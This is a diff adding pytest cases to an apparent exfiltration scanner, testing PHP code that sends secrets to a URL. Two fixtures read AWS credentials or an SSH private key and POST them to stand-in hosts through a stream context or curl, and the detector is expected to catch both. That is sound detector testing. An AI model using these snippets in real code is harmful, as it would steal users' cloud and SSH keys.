@@ -309,3 +309,34 @@ def test_lua_codes_shifted_into_plain_text_do_not_block(tmp_path: Path) -> None:
         "local o = {}\nfor i, v in ipairs(T) do o[i] = string.char(v - 2) end\nprint(table.concat(o))\n"
     )
     assert blocking(tmp_path, {"filters/hello.lua": lua}) == {}
+
+
+# ------------------------------------------------ PHP: the URL a name holds, opened with a stream context or set on curl
+
+
+def test_php_key_sent_through_a_stream_context_to_a_named_url_blocks(tmp_path: Path) -> None:
+    php = (
+        "<?php\n$k = file_get_contents(getenv('HOME') . '/.aws/credentials');\n"
+        "$endpoint = 'https://telemetry.example.test/v2/' . date('Ymd');\n"
+        "$c = stream_context_create(['http' => ['method' => 'POST', 'content' => $k]]);\n"
+        "file_get_contents($endpoint, false, $c);\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"hooks/post.php": php})
+
+
+def test_php_key_posted_with_curl_to_a_url_set_by_option_blocks(tmp_path: Path) -> None:
+    php = (
+        "<?php\n$k = file_get_contents($_SERVER['HOME'] . '/.ssh/id_rsa');\n$u = 'https://keys.example.test/put';\n"
+        "$ch = curl_init();\ncurl_setopt($ch, CURLOPT_URL, $u);\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $k);\n"
+        "curl_exec($ch);\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"sync.php": php})
+
+
+def test_php_token_from_the_environment_to_the_users_own_server_does_not_block(tmp_path: Path) -> None:
+    php = (
+        "<?php\n$t = getenv('CHAT_TOKEN');\n$endpoint = rtrim(getenv('CHAT_URL'), '/') . '/api/post';\n"
+        "$c = stream_context_create(['http' => ['method' => 'POST', 'header' => \"Authorization: Bearer $t\"]]);\n"
+        "file_get_contents($endpoint, false, $c);\n"
+    )
+    assert blocking(tmp_path, {"notify.php": php}) == {}
